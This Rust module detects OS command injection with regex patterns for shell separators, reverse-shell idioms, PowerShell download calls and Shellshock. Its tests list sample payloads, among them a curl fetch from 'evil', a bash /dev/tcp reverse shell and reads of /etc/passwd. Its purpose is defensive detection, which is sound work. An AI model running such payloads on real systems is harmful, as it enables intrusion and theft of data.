//! OS command injection: a shell separator or substitution followed by a command,
//! interpreter one-liners, reverse-shell idioms, Windows shells, and Shellshock.

use std::sync::LazyLock;

use regex::Regex;

/// Commands that mean little else after a shell separator.
const UNIX_COMMANDS: &str = "cat|ls|id|whoami|uname|pwd|wget|curl|nc|ncat|netcat|bash|sh|zsh|ksh|dash|csh|tcsh|python[23]?|perl|ruby|php|ping|nslookup|dig|ifconfig|netstat|ps|kill|sleep|telnet|ssh|scp|tftp|base64|nmap|socat|busybox|awk|gawk|sed|printenv|hostname|crontab|useradd|passwd|sudo|uptime|xargs|chmod|chown|rm|mkfifo|mknod|nohup|getent|lsof|killall|pkill|systemctl|echo|printf|touch|cp|mv|tar|gzip|dd|timeout|expr";

/// Windows commands that mean little else after a separator.
const WINDOWS_COMMANDS: &str = r"cmd(?:\.exe)?|powershell(?:\.exe)?|pwsh|certutil|bitsadmin|mshta|rundll32|regsvr32|wmic|whoami|ipconfig|systeminfo|tasklist|net1?\s+(?:user|localgroup|group|view|share)|reg\s+(?:query|add|save)|schtasks|sc\s+(?:create|config|start)|nslookup|ping";

static PATTERNS: LazyLock<Vec<(Regex, &'static str)>> = LazyLock::new(|| {
    let after_separator = format!(
        r"(?:[;|`\n\r]|&&|\|\||\$\(|(?:^|\s)&)\s*(?:[\w./\\-]*[/\\])?(?:{UNIX_COMMANDS}|{WINDOWS_COMMANDS})(?:$|[\s;&|<>'`)]|\$\{{?ifs)"
    );
    [
        (after_separator.as_str(), "command after a shell separator"),
        (r"\$\{?ifs\}?", "`$IFS` used as a space"),
        (r"\(\s*\)\s*\{[^}]*;\s*\}\s*;", "Shellshock function definition"),
        (r"/dev/(?:tcp|udp)/", "bash network redirection"),
        (r"\b(?:bash|sh|zsh)\s+-[ic]\b", "interactive or inline shell"),
        (
            r"\b(?:python[23]?|perl|ruby|php|node|lua)\s+-[ecr]\s",
            "interpreter one-liner",
        ),
        (r"\b(?:nc|ncat|netcat)\b[^;|]*\s-[a-z]*e\s", "netcat with -e"),
        (
            r"(?:^|[\s;&|])(?:cmd(?:\.exe)?\s+/[ck]\s|powershell(?:\.exe)?\s+-(?:e(?:nc|ncodedcommand)?|c(?:ommand)?|nop|w(?:indowstyle)?|exec)\b)",
            "Windows shell invocation",
        ),
        (
            r"\b(?:invoke-expression|iex\s*\(|new-object\s+net\.webclient|downloadstring\s*\(|start-process\b)",
            "PowerShell download or execution",
        ),
    ]
    .into_iter()
    .map(|(p, why)| (Regex::new(&format!("(?i){p}")).expect("valid pattern"), why))
    .collect()
});

/// Why `value` injects an OS command, if it does.
pub fn command_injection(value: &str) -> Option<String> {
    if value.len() < 2
        || value.bytes().all(|b| {
            b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.' | b',' | b'@' | b' ')
        })
    {
        return None;
    }
    PATTERNS
        .iter()
        .find(|(re, _)| re.is_match(value))
        .map(|(_, why)| (*why).to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn command_injection_payloads() {
        for p in [
            "127.0.0.1; cat /etc/passwd",
            "x|id",
            "a && whoami",
            "$(curl http://evil/x.sh)",
            "`uname -a`",
            "1;/bin/bash -i",
            "() { :; }; /bin/bash -c 'id'",
            "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
            "x & powershell -enc SQBFAFgA",
            "cmd.exe /c dir",
            "a;cat${IFS}/etc/passwd",
            "8.8.8.8 | nslookup evil.example",
            "python -c 'import os'",
        ] {
            assert!(command_injection(p).is_some(), "missed {p}");
        }
    }

    #[test]
    fn ordinary_values_are_not_command_injection() {
        for v in [
            "cat food",
            "Tom & Jerry",
            "ls",
            "id=5",
            "research; development",
            "salt & pepper; sugar",
            "the id of the user",
            "a|b",
            "bash the system",
        ] {
            assert_eq!(command_injection(v), None, "flagged {v}");
        }
    }
}
